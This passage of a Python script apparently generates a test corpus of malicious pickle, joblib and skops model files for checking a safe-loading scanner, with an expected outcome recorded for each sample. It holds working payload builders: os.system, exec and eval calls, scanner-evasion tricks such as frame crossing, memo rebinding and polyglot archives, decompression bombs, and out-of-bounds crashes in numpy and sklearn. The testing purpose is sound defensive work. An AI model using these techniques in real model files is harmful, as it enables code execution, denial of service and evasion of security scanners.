def decision_tree_regressor(tree: bytes) -> bytes:
    """A fitted-looking DecisionTreeRegressor (one feature, one output) around ``tree``'s opcodes."""
    est = sglob("sklearn.tree._classes", "DecisionTreeRegressor") + EMPTY_TUPLE + NEWOBJ
    state = {
        "criterion": "squared_error",
        "splitter": "best",
        "max_depth": 1,
        "min_samples_split": 2,
        "min_samples_leaf": 1,
        "min_weight_fraction_leaf": Raw(b"G" + struct.pack(">d", 0.0)),
        "max_features": None,
        "max_leaf_nodes": None,
        "random_state": 0,
        "min_impurity_decrease": Raw(b"G" + struct.pack(">d", 0.0)),
        "class_weight": None,
        "ccp_alpha": Raw(b"G" + struct.pack(">d", 0.0)),
        "monotonic_cst": None,
        "n_features_in_": 1,
        "n_outputs_": 1,
        "max_features_": 1,
        "tree_": Raw(tree),
        "_sklearn_version": "1.9.1",
    }
    return pk(est + v(state) + BUILD)


def section2() -> list[Sample]:
    """§2: abusing allowed objects: BUILD on classes/functions, file-creating constructors,
    huge numpy allocations, native code trusting its state."""
    out: list[Sample] = []
    out.append(
        Sample(
            "s2_build_class_halfsquarederror.pkl",
            "build-on-class-sklearn-loss",
            "2",
            "BUILD (None, {'loss': ...}) on the class sklearn._loss.loss.HalfSquaredError "
            "(no __setstate__): setattr rewrites a method for the whole process.",
            pk(build_class_attr(sglob("sklearn._loss.loss", "HalfSquaredError"), {"loss": PWNED})),
            "pickle",
            check(
                f"__import__('sklearn._loss.loss', fromlist=['_']).HalfSquaredError.__dict__.get('loss') == {PWNED!r}"
            ),
            related=["sklearn._loss.loss.HalfSquaredError"],
        )
    )
    out.append(
        Sample(
            "s2_build_class_csr_matrix.pkl",
            "build-on-class-scipy-sparse",
            "2",
            "BUILD slotstate on scipy.sparse._csr.csr_matrix replaces toarray process-wide.",
            pk(build_class_attr(sglob("scipy.sparse._csr", "csr_matrix"), {"toarray": PWNED})),
            "pickle",
            check(f"__import__('scipy.sparse._csr', fromlist=['_']).csr_matrix.__dict__.get('toarray') == {PWNED!r}"),
            related=["scipy.sparse._csr.csr_matrix"],
        )
    )
    out.append(
        Sample(
            "s2_build_function_defaults.pkl",
            "build-on-function",
            "2",
            "BUILD slotstate on the function copyreg._reconstructor sets its __defaults__.",
            pk(build_class_attr(sglob("copyreg", "_reconstructor"), {"__defaults__": (PWNED,)})),
            "pickle",
            check(f"__import__('copyreg')._reconstructor.__defaults__ == ({PWNED!r},)"),
            related=["copyreg._reconstructor"],
        )
    )
    ctors = [
        ("logging_filehandler", "logging", "FileHandler", (WRITE_NAME,)),
        ("io_fileio", "_io", "FileIO", (WRITE_NAME, "w")),
        ("zipfile_zipfile", "zipfile", "ZipFile", (WRITE_NAME, "w")),
        ("gzip_open", "gzip", "open", (WRITE_NAME, "wb")),
        ("codecs_open", "codecs", "open", (WRITE_NAME, "w")),
        ("sqlite3_connect", "sqlite3", "connect", (WRITE_NAME,)),
    ]
    for tag, mod, name, args in ctors:
        out.append(
            Sample(
                f"s2_ctor_{tag}.pkl",
                f"file-creating-ctor-{tag.replace('_', '-')}",
                "2",
                f"{mod}.{name}{args!r} creates a file in the cwd while constructing.",
                pk(call(sglob(mod, name), *args)),
                "pickle",
                WRITE,
                global_=f"{mod}.{name}",
            )
        )
    huge = call(sglob(*RECONSTRUCT), Raw(sglob("numpy", "ndarray")), (10**13,), b"b")
    out.append(
        Sample(
            "s2_numpy_reconstruct_huge.pkl",
            "numpy-reconstruct-huge-shape",
            "2",
            "numpy._core.multiarray._reconstruct(ndarray, (10**13,), b'b') asks for 9 TiB "
            "using only globals every numpy pickle needs.",
            pk(huge, protocol=2),
            "pickle",
            MEMORY,
            error="LimitExceededError",
        )
    )
    obj_dtype = np_dtype("O8", DT_OBJ)
    out.append(
        Sample(
            "s2_numpy_build_huge_shape.pkl",
            "numpy-build-huge-shape",
            "2",
            "ndarray BUILD (1, (10**12,), dtype('O'), False, []) allocates 8 TB of pointers "
            "before noticing the list is empty.",
            pk(np_array((10**12,), obj_dtype, [])),
            "pickle",
            MEMORY,
            error="LimitExceededError",
        )
    )
    # numpy fills an object array from the state's list without checking its length
    out.append(
        Sample(
            "s2_numpy_object_list_short.pkl",
            "numpy-object-array-short-list",
            "2",
            "ndarray BUILD (1, (64,), dtype('O'), False, [1, 2, 3]): numpy copies 64 items out of "
            "a 3-item list, i.e. reads (and increfs) pointers past its end; crashes plain pickle.",
            pk(np_array((64,), obj_dtype, [1, 2, 3])),
            "pickle",
            CRASH,
        )
    )
    masked = call(sglob("numpy.ma.core", "_mareconstruct"), Raw(sglob("numpy.ma.core", "MaskedArray")),
                  Raw(sglob("numpy", "ndarray")), (0,), b"b")
    out.append(
        Sample(
            "s2_numpy_masked_object_list_short.pkl",
            "numpy-masked-array-short-list",
            "2",
            "The same through MaskedArray.__setstate__ (7-field state), which hands ndarray.__setstate__ "
            "the first fields: a 3-item list for 64 object elements.",
            pk(masked + tup(1, (64,), Raw(obj_dtype), False, [1, 2, 3], b"\0" * 64, None) + BUILD),
            "pickle",
            CRASH,
        )
    )
    # numpy's bit generators index fixed buffers with a position taken from their state unchecked
    u4, u8 = np_simple_dtype("u4"), np_simple_dtype("u8")
    mt_state = {"bit_generator": "MT19937", "state": {"key": Raw(np_array((624,), u4, b"\1" * 2496)),
                                                      "pos": 10**8}, "has_gauss": 0, "gauss": Raw(b"G" + bytes(8))}
    out.append(
        Sample(
            "s2_numpy_randomstate_pos.pkl",
            "numpy-randomstate-position",
            "2",
            "RandomState whose MT19937 state has pos = 10**8: set_state stores it, and the first "
            "draw reads key[10**8] (out of bounds); crashes when the model's random_state is used.",
            pk(call(sglob("numpy.random._pickle", "__randomstate_ctor"), "MT19937") + v(mt_state) + BUILD),
            "pickle",
            CRASH,
            after_load="obj.random_sample(3)",
        )
    )
    philox_state = {"bit_generator": "Philox",
                    "state": {"counter": Raw(np_array((4,), u8, bytes(32))), "key": Raw(np_array((2,), u8, bytes(16)))},
                    "buffer": Raw(np_array((4,), u8, bytes(32))), "buffer_pos": -(10**8), "has_uint32": 0,
                    "uinteger": 0}
    out.append(
        Sample(
            "s2_numpy_philox_buffer_pos.pkl",
            "numpy-philox-buffer-position",
            "2",
            "Philox bit generator whose state has buffer_pos = -10**8: the first draw reads "
            "buffer[-10**8]; crashes when a Generator built on it is used.",
            pk(call(sglob("numpy.random._pickle", "__bit_generator_ctor"), "Philox") + v(philox_state) + BUILD),
            "pickle",
            CRASH,
            after_load="__import__('numpy').random.Generator(obj).random(3)",
        )
    )
    out.append(
        Sample(
            "s2_sklearn_tree_out_of_bounds.pkl",
            "sklearn-tree-oob-children",
            "2",
            "DecisionTreeRegressor whose Tree nodes have child indices 2**40: loads with "
            "plain pickle, segfaults in predict().",
            sklearn_tree_oob(),
            "pickle",
            CRASH,
            error="UnsafeModelError",
            after_load="obj.predict([[0.0]])",
            related=["sklearn.tree._tree.Tree"],
        )
    )
    return out


def section3() -> list[Sample]:
    """§3: parser differentials between scanners and the unpicklers that run the file."""
    out: list[Sample] = []
    exec_call = call(sglob("builtins", "exec"), PY)
    out.append(
        Sample(
            "s3_invalid_opcode_after_call.pkl",
            "malicious-then-invalid-opcode",
            "3",
            "builtins.exec(src) followed by the invalid opcode 0xff: the call runs before the unpickler fails.",
            proto(4) + exec_call + b"\xff" + STOP,
            "pickle",
            CANARY,
            global_="builtins.exec",
        )
    )
    out.append(
        Sample(
            "s3_truncated_after_call.pkl",
            "malicious-then-truncated",
            "3",
            "subprocess.check_call(argv), then the stream ends without STOP (truncated).",
            proto(4) + call(sglob("subprocess", "check_call"), ARGV),
            "pickle",
            CANARY,
            global_="subprocess.check_call",
        )
    )
    benign = pk(v({"model": "LinearRegression", "coef": [1, 2, 3]}))
    out.append(
        Sample(
            "s3_stacked_second_pickle.pkl",
            "stacked-second-pickle",
            "3",
            "A benign pickle followed by a malicious second pickle; code that calls "
            "pickle.load until EOF runs it, scanners that stop at the first STOP miss it.",
            benign + pk(call(sglob("posix", "system"), SH)),
            "pickle-stream",
            CANARY,
            loader="pickle_stream",
            related=["posix.system"],
        )
    )
    # FRAME crossing: see the docstring of frame_crossing().
    out.append(
        Sample(
            "s3_frame_crossing.pkl",
            "frame-crossing",
            "3",
            "A SHORT_BINUNICODE at the end of a 137 KiB FRAME claims more bytes than the frame "
            "holds. A linear parser (pickletools, pickle.loads of the bytes) reads the missing "
            "bytes from after the frame and sees only strings; CPython's C unpickler reading "
            "the file discards the frame's tail, so the hidden posix.system call runs.",
            frame_crossing(),
            "pickle",
            CANARY,
            related=["posix.system"],
        )
    )
    memo = u("posix") + u("collections") + POP + MEMOIZE + POP
    memo += u("system") + u("OrderedDict") + POP + MEMOIZE + POP
    memo += binget(0) + binget(1) + STACK_GLOBAL + tup(SH) + REDUCE
    out.append(
        Sample(
            "s3_memo_memoize_after_pop.pkl",
            "memo-memoize-after-pop",
            "3",
            "MEMOIZE after POP memoizes 'posix'/'system', not the last pushed "
            "'collections'/'OrderedDict'; BINGET feeds them to STACK_GLOBAL.",
            pk(memo),
            "pickle",
            CANARY,
            global_="posix.system",
            related=["collections.OrderedDict"],
        )
    )
    memo2 = u("collections") + long_binput(7) + POP + u("OrderedDict") + long_binput(8) + POP
    memo2 += u("subprocess") + long_binput(7) + POP + u("getoutput") + long_binput(8) + POP
    memo2 += long_binget(7) + long_binget(8) + STACK_GLOBAL + tup(SH) + REDUCE
    out.append(
        Sample(
            "s3_memo_binput_overwrite.pkl",
            "memo-binput-overwrite",
            "3",
            "LONG_BINPUT rebinds memo slots 7/8 from collections.OrderedDict to "
            "subprocess.getoutput before LONG_BINGET feeds STACK_GLOBAL.",
            pk(memo2),
            "pickle",
            CANARY,
            global_="subprocess.getoutput",
            related=["collections.OrderedDict"],
        )
    )
    benign_skops = skops_archive(skops_json(42))
    out.append(
        Sample(
            "s3_polyglot_pickle_zip.skops",
            "polyglot-pickle-zip",
            "3",
            "A pickle with a benign skops zip appended: zipfile and skops see a valid "
            "archive, pickle.load runs the pickle.",
            pk(call(sglob("os", "system"), SH)) + benign_skops,
            "pickle+zip",
            CANARY,
            global_="os.system",
        )
    )
    ext_samples = [
        (
            "s3_ext_pickle_as.skops",
            "misleading-extension-skops",
            "builtins.exec",
            pk(call(sglob("builtins", "exec"), PY)),
            "pickle",
            "pickle",
        ),
        (
            "s3_ext_pickle_as.json",
            "misleading-extension-json",
            "os.system",
            glob("os", "system") + MARK + s0(SH) + TUPLE + REDUCE + STOP,
            "pickle",
            "pickle",
        ),
        (
            "s3_ext_pickle_as.txt",
            "misleading-extension-txt",
            "subprocess.check_output",
            pk(call(sglob("subprocess", "check_output"), ARGV)),
            "pickle",
            "pickle",
        ),
        (
            "s3_ext_joblib_zlib_no_extension",
            "misleading-extension-none",
            "builtins.eval",
            zlib.compress(pk(call(sglob("builtins", "eval"), PY)), 9),
            "joblib-zlib",
            "joblib",
        ),
    ]
    for file, tech, gname, data, container, loader in ext_samples:
        out.append(
            Sample(
                file,
                tech,
                "3",
                f"Malicious {container} content ({gname}) behind a misleading file name.",
                data,
                container,
                CANARY,
                global_=gname,
                loader=loader,
            )
        )
    return out


def frame_crossing() -> bytes:
    """Build the crossed-frame sample.

    Layout: ``PROTO 4 | FRAME L | BINBYTES(140000) POP SHORT_BINUNICODE n 'AA' |``
    followed (outside the frame) by ``'F' * (n - 2) | SHORT_BINBYTES m | M | POP STOP``.

    * Linear reading: the string is ``'AA' + 'F' * (n - 2)``; then SHORT_BINBYTES
      swallows ``M`` as data; POP; STOP.
    * C unpickler on a file: a frame of 128 KiB or more is never peeked but read
      with ``read()``; ``_Unpickler_Read`` for the crossing string
      then refills from the file *after* the frame, dropping ``'AA'``. The string
      becomes ``'F' * (n - 2) + SHORT_BINBYTES header``, and ``M`` (posix.system)
      executes.
    """
    hidden = call(sglob("posix", "system"), SH)
    n = 20
    # > PREFETCH (128 KiB): the frame is always fetched with read(), never peek()
    body = by(b"P" * 140_000) + POP + b"\x8c" + bytes([n]) + b"AA"
    after = b"F" * (n - 2) + b"C" + bytes([len(hidden)]) + hidden + POP + STOP
    return proto(4) + frame(body) + after


def section4() -> list[Sample]:
    """§4: joblib's own unrestricted paths."""
    out: list[Sample] = []
    u1 = np_dtype("u1", DT_U1)
    # 1. malicious global after raw array bytes; padding byte 0x2e is '.' (STOP)
    head = EMPTY_LIST + MARK + jl_wrapper((8,), u1)
    tail = call(sglob("posix", "system"), SH) + APPENDS + STOP
    data = proto(4) + frame(head) + jl_array_bytes(bytes(range(8)), 0x2E) + frame(tail)
    out.append(
        Sample(
            "s4_joblib_global_after_array.joblib",
            "joblib-global-after-array",
            "4",
            "A NumpyArrayWrapper whose padding-length byte is '.' (STOP): pickletools-based "
            "scanners stop there; joblib skips padding and array bytes and then runs "
            "posix.system in the second frame.",
            data,
            "joblib",
            CANARY,
            global_="posix.system",
            loader="joblib",
        )
    )
    # 2. object-dtype array: nested complete pickle
    obj = np_dtype("O8", DT_OBJ)
    nested = pk(call(sglob("builtins", "exec"), PY), protocol=5)
    data = proto(4) + frame(EMPTY_LIST + MARK + jl_wrapper((1,), obj)) + nested
    data += frame(APPENDS + STOP)
    out.append(
        Sample(
            "s4_joblib_object_array_nested.joblib",
            "joblib-object-array-nested-pickle",
            "4",
            "Object-dtype NumpyArrayWrapper: joblib reads the array as a nested pickle with "
            "a second unpickler; the nested pickle calls builtins.exec.",
            data,
            "joblib",
            CANARY,
            global_="builtins.exec",
            loader="joblib",
        )
    )
    # 2b. a polyglot: joblib reads the array's bytes as data, pickle.load reads them as opcodes
    hidden = call(sglob("posix", "system"), SH) + APPENDS + STOP
    head = EMPTY_LIST + MARK + jl_wrapper((len(hidden),), u1, alignment=None)
    data = proto(4) + head + hidden + APPENDS + STOP
    out.append(
        Sample(
            "s4_joblib_array_bytes_are_opcodes.joblib",
            "joblib-array-bytes-read-by-pickle",
            "4",
            "A raw joblib file that joblib reads as one uint8 array (no padding byte), and whose "
            "array bytes are opcodes for pickle.load, which reads on past the wrapper's BUILD and "
            "calls posix.system. Safe under joblib.load; the same file handed to pickle.load runs code.",
            data,
            "joblib",
            CANARY,
            global_="posix.system",
            loader="pickle",
        )
    )
    # 3. legacy ZF container
    inner = pk(call(sglob("subprocess", "getstatusoutput"), SH), protocol=2)
    zf = b"ZF" + hex(len(inner)).encode().ljust(19) + zlib.compress(inner, 9)
    out.append(
        Sample(
            "s4_joblib_zf_legacy.joblib",
            "joblib-zf-legacy-container",
            "4",
            "Legacy 'ZF' zlib container: joblib hands it to the compatibility loader with the default find_class.",
            zf,
            "joblib-zf",
            CANARY,
            loader="joblib",
            related=["subprocess.getstatusoutput"],
        )
    )
    # 4/5. NDArrayWrapper with a file-chosen path -> np.load(allow_pickle=True)
    for tag, module, path in (
        ("relpath", "joblib.numpy_pickle", "../" + SIDECAR),
        ("abspath", "joblib.numpy_pickle_compat", "/proc/self/cwd/" + SIDECAR),
    ):
        wrapper = sglob(module, "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
        wrapper += v({"filename": path, "subclass": Raw(sglob("numpy", "ndarray")), "allow_mmap": False}) + BUILD
        out.append(
            Sample(
                f"s4_joblib_ndarraywrapper_{tag}.joblib",
                f"joblib-ndarraywrapper-{tag}",
                "4",
                f"Legacy NDArrayWrapper inside a modern joblib file with filename {path!r}: "
                "joblib calls numpy.load(path, allow_pickle=True) on a pickle outside the "
                "model's directory.",
                pk(wrapper),
                "joblib",
                CANARY,
                global_=f"{module}.NDArrayWrapper",
                loader="joblib",
                sidecars=SIDECAR_REF,
            )
        )
    # 6. ZNDArrayWrapper with file-supplied _reconstruct arguments
    znd = sglob("joblib.numpy_pickle_compat", "ZNDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    znd += (
        v(
            {
                "filename": "safeload_missing.z",
                "init_args": (Raw(sglob("numpy", "ndarray")), (10**13,), b"b"),
                "state": (),
            }
        )
        + BUILD
    )
    out.append(
        Sample(
            "s4_joblib_zndarraywrapper.joblib",
            "joblib-zndarraywrapper",
            "4",
            "ZNDArrayWrapper: joblib calls numpy _reconstruct(*init_args) with file-supplied "
            "arguments (here a 9 TiB shape) before reading its sidecar.",
            pk(znd),
            "joblib",
            MEMORY,
            global_="joblib.numpy_pickle_compat.ZNDArrayWrapper",
            loader="joblib",
        )
    )
    # 7. object dtype + allow_mmap, loaded with mmap_mode
    head = proto(4) + frame(jl_wrapper((2,), obj, allow_mmap=True))
    pad = 16 - (len(head) + 1) % 16
    data = head + jl_array_bytes(b"\x41" * 16, pad) + STOP
    out.append(
        Sample(
            "s4_joblib_object_mmap.joblib",
            "joblib-object-dtype-mmap",
            "4",
            "Object-dtype NumpyArrayWrapper marked allow_mmap: with mmap_mode joblib maps "
            "file bytes as PyObject pointers (0x4141...); touching an element crashes.",
            data,
            "joblib",
            CRASH,
            loader="joblib",
            load_kwargs={"mmap_mode": "r"},
            after_load="repr(obj[0])",
        )
    )
    # 8. shape claiming 16 GiB in a tiny file
    f8 = np_simple_dtype("f8")
    head = proto(4) + frame(jl_wrapper((2**31,), f8))
    data = head + jl_array_bytes(b"\0" * 8, 16 - (len(head) + 1) % 16) + STOP
    out.append(
        Sample(
            "s4_joblib_huge_shape.joblib",
            "joblib-wrapper-huge-shape",
            "4",
            "NumpyArrayWrapper shape (2**31,) float64 (16 GiB) in a ~500 byte file: joblib allocates before reading.",
            data,
            "joblib",
            MEMORY,
            error="LimitExceededError",
            loader="joblib",
        )
    )
    # 9. dtype V0
    v0 = np_dtype("V0", DT_V0)
    head = proto(4) + frame(jl_wrapper((1,), v0))
    data = head + jl_array_bytes(b"", 16 - (len(head) + 1) % 16) + STOP
    out.append(
        Sample(
            "s4_joblib_dtype_v0.joblib",
            "joblib-dtype-v0",
            "4",
            "NumpyArrayWrapper with dtype V0: joblib divides by the item size (0).",
            data,
            "joblib",
            {"kind": "exception", "exception": "ZeroDivisionError"},
            error="MalformedModelError",
            loader="joblib",
        )
    )
    # 10-15. every compressor wrapping a malicious payload
    import lz4.frame  # deferred: optional dependency, only needed while crafting

    payloads = {
        "zlib": ("runpy", "_run_code", (PY, {})),
        "gzip": ("timeit", "timeit", ("pass", PY)),
        "bz2": ("posix", "system", (SH,)),
        "xz": ("builtins", "exec", (PY,)),
        "lzma": ("subprocess", "run", (ARGV,)),
        "lz4": ("pydoc", "pipepager", ("", SH)),
    }
    for comp, (mod, name, args) in payloads.items():
        raw = proto(4) + frame(jl_wrapper((4,), u1)) + jl_array_bytes(b"abcd", 4)
        raw += frame(POP + call(sglob(mod, name), *args) + STOP)
        out.append(
            Sample(
                f"s4_joblib_{comp}.joblib",
                f"joblib-compressed-{comp}",
                "4",
                f"joblib {comp}-compressed file (detected by magic bytes) whose pickle calls "
                f"{mod}.{name} after an array.",
                compress(comp, raw, lz4.frame.compress),
                f"joblib-{comp}",
                CANARY,
                global_=f"{mod}.{name}",
                loader="joblib",
            )
        )
    out.append(
        Sample(
            "s4_joblib_bz2_bomb.joblib",
            "joblib-decompression-bomb",
            "4",
            "~6 KB bz2 joblib file that decompresses to 4 GiB (a BINBYTES8 of zeros).",
            bz2_bomb(),
            "joblib-bz2",
            MEMORY,
            error="LimitExceededError",
            loader="joblib",
        )
    )
    return out


def compress(kind: str, raw: bytes, lz4_compress: Any) -> bytes:
    """Compress ``raw`` the way joblib's compressors do (deterministically)."""
    if kind == "zlib":
        return zlib.compress(raw, 9)
    if kind == "gzip":
        comp = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip header with mtime 0
        return comp.compress(raw) + comp.flush()
    if kind == "bz2":
        return bz2.compress(raw, 9)
    if kind == "xz":
        return lzma.compress(raw, format=lzma.FORMAT_XZ)
    if kind == "lzma":
        return lzma.compress(raw, format=lzma.FORMAT_ALONE)
    if kind == "lz4":
        return bytes(lz4_compress(raw, content_checksum=True))
    raise ValueError(kind)


def bz2_bomb(total: int = 4 << 30, chunk: int = 40_000_000) -> bytes:
    """Concatenated bz2 streams: a BINBYTES8 header, ``total`` zero bytes, STOP."""
    head = proto(4) + b"\x8e" + struct.pack("<Q", total)
    zeros = bz2.compress(b"\0" * chunk, 9)
    full, rest = divmod(total, chunk)
    parts = [bz2.compress(head, 9), zeros * full]
    if rest:
        parts.append(bz2.compress(b"\0" * rest, 9))
    parts.append(bz2.compress(STOP, 9))
    return b"".join(parts)


def section5() -> list[Sample]:
    """§5: skops archives."""
    out: list[Sample] = []
    reduce_system = skops_node("ConstructorFromReduceNode", "os", "system", content=skops_tuple(skops_json(SH)))
    out.append(
        Sample(
            "s5_skops_reduce_os_system.skops",
            "skops-constructor-os-system",
            "5",
            "skops schema with a ConstructorFromReduceNode naming os.system: loading with "
            "trusted=get_untrusted_types() calls os.system(cmd).",
            skops_archive(reduce_system),
            "skops",
            CANARY,
            global_="os.system",
            loader="skops_trust_all",
        )
    )
    reduce_eval = skops_node("ConstructorFromReduceNode", "builtins", "eval", content=skops_tuple(skops_json(PY)))
    out.append(
        Sample(
            "s5_skops_reduce_builtins_eval.skops",
            "skops-constructor-builtins-eval",
            "5",
            "ConstructorFromReduceNode naming builtins.eval with the source as argument.",
            skops_archive(skops_node("ListNode", "builtins", "list", content=[reduce_eval])),
            "skops",
            CANARY,
            global_="builtins.eval",
            loader="skops_trust_all",
        )
    )
    keytype = skops_node(
        "DictNode",
        "builtins",
        "dict",
        content={PY: skops_json(1)},
        key_types=skops_node(
            "ListNode",
            "builtins",
            "list",
            content=[skops_node("TypeNode", "builtins", "eval")],
        ),
    )
    out.append(
        Sample(
            "s5_skops_dict_keytype_eval.skops",
            "skops-dict-key-type-eval",
            "5",
            "DictNode whose key_types holds a TypeNode for builtins.eval: the key string is "
            "passed to eval while the dict is rebuilt.",
            skops_archive(keytype),
            "skops",
            CANARY,
            global_="builtins.eval",
            loader="skops_trust_all",
        )
    )
    count = 70_000
    many = zip_many_members(count, skops_archive(skops_json(0)))
    out.append(
        Sample(
            "s5_skops_many_members.skops",
            "skops-huge-member-count",
            "5",
            f"skops archive whose ZIP64 central directory lists {count + 1} members (~46 bytes "
            "each, all aliasing schema.json): zipfile and skops accept it without any bound.",
            many,
            "skops",
            {**ACCEPTED, "check": f"len(__import__('zipfile').ZipFile(path).infolist()) > {count}"},
            error="LimitExceededError",
            loader="skops_trust_all",
        )
    )
    tiny = npy_header("<f8", (2**40,)) + b"\0" * 8
    arr = skops_node("NdArrayNode", "numpy", "ndarray", type="numpy", file="0.npy")
    out.append(
        Sample(
            "s5_skops_npy_huge_shape.skops",
            "skops-npy-huge-shape",
            "5",
            "Tiny skops archive whose .npy member header claims shape (2**40,) float64: "
            "plain skops.io.load (no trust needed) has numpy allocate 8 TiB.",
            skops_archive(arr, [("0.npy", tiny, zipfile.ZIP_STORED)]),
            "skops",
            MEMORY,
            error="LimitExceededError",
            loader="skops",
        )
    )
    member = npy_header("|u1", (50_000_000,)) + b"\0" * 50_000_000
    nodes = [skops_node("NdArrayNode", "numpy", "ndarray", type="numpy", file="0.npy")] * 60
    root = skops_node("ListNode", "builtins", "list", content=nodes)
    out.append(
        Sample(
            "s5_skops_member_amplification.skops",
            "skops-member-amplification",
            "5",
            "~50 KB deflated 50 MB member referenced by 60 NdArrayNodes: skops reads every "
            "reference into memory while building the tree (before any trust check), 3 GB.",
            skops_archive(root, [("0.npy", member, zipfile.ZIP_DEFLATED)]),
            "skops",
            MEMORY,
            error="LimitExceededError",
            loader="skops",
        )
    )
    return out


def extra_sections() -> list[Sample]:
    """Samples from ``craft_*.py`` modules beside this script (one module per topic, each with ``samples()``),
    in file-name order, so that topics can be added without editing this file."""
    import importlib.util

    out: list[Sample] = []
    here = Path(__file__).resolve().parent
    if str(here) not in sys.path:
        sys.path.insert(0, str(here))  # the topic modules import their helpers with ``import craft``
    for path in sorted(here.glob("craft_*.py")):
        spec = importlib.util.spec_from_file_location(f"_safeload_{path.stem}", path)
        assert spec is not None and spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        out.extend(module.samples())
    return out


def build_all() -> list[Sample]:
    """Every sample, in manifest order."""
    samples = section1() + section2() + section3() + section4() + section5() + extra_sections()
    names = [s.file for s in samples]
    if len(set(names)) != len(names):
        raise RuntimeError("duplicate sample file names")
    techniques = [s.technique for s in samples]
    if len(set(techniques)) != len(techniques):
        raise RuntimeError("duplicate technique ids")
    return samples


def write_corpus(out_dir: Path) -> list[dict[str, Any]]:
    """Write every sample and ``manifest.json`` into ``out_dir``."""
    out_dir.mkdir(parents=True, exist_ok=True)
    samples = build_all()
    for sample in samples:
        (out_dir / sample.file).write_bytes(sample.data)
    manifest = [s.manifest_entry() for s in samples]
    text = json.dumps(manifest, indent=2, sort_keys=True) + "\n"
    (out_dir / "manifest.json").write_text(text, encoding="utf-8")
    return manifest


def main(argv: Sequence[str] | None = None) -> int:
    """Command-line entry point."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent)
    args = parser.parse_args(argv)
    manifest = write_corpus(args.out)
    print(f"wrote {len(manifest)} samples to {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
